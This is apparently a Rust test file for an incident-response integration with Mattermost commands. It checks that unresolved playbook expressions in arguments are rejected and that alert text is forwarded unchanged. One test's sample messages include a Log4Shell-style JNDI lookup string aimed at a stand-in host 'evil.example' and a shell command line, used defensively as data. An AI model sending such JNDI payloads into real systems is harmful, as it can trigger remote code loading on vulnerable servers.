//! Expressions that a playbook left where their values belong.

use crate::support::{self, assert_argument, calls, world};

#[test]
fn an_expression_that_a_playbook_left_is_called_that() {
    let component = support::component();
    for command in &component.manifest().commands {
        for argument in &command.arguments {
            let script = world::script();
            let arguments = calls::replaced(&command.name, &argument.name, " ${incident.name}");
            let failure = support::call_there(&script, &command.name, &arguments).unwrap_err();
            assert_argument(&failure, &argument.name);
            let message = format!(
                "{} is \"${{incident.name}}\": the playbook left it unresolved; its value was expected",
                argument.name
            );
            assert_eq!(failure.message(), message);
            assert!(script.requests().is_empty(), "{:?}", script.lines());
        }
    }
}

#[test]
fn an_expression_in_a_name_or_in_a_text_is_one_too() {
    for (command, argument, value, expression) in [
        ("mattermost-close-channel", "channel", "inc-${incident.id}", "${incident.id}"),
        ("mattermost-create-channel", "display_name", "War room ${incident.id}", "${incident.id}"),
        ("send-notification", "message", "Look at ${inputs.Text.[0]}, please", "${inputs.Text.[0]}"),
        ("send-notification", "to", "anna,${incident.owner}", "${incident.owner}"),
        ("mattermost-add-group-member", "user_ids", "['${Mattermost.User.id}']", "${Mattermost.User.id}"),
    ] {
        let script = world::script();
        let failure = support::call_there(&script, command, &calls::replaced(command, argument, value)).unwrap_err();
        assert_argument(&failure, argument);
        assert!(failure.message().contains(&format!("has \"{expression}\" in it: the playbook left it")), "{failure}");
        assert!(script.requests().is_empty());
    }
}

#[test]
fn what_an_alert_quotes_is_sent_as_it_is() {
    for message in [
        "${jndi:ldap://evil.example/a}",
        "Header: ${jndi:ldap://evil.example/a}",
        "sh -c 'echo ${HOME}'",
        "costs $5 {a}",
    ] {
        let script = world::script();
        let arguments = calls::replaced("mattermost-send-file", "message", message);
        support::call_there(&script, "mattermost-send-file", &arguments).unwrap_or_else(|failure| panic!("{failure}"));
        assert_eq!(script.of_method("POST").last().expect("a post").json()["message"], message);
    }
}
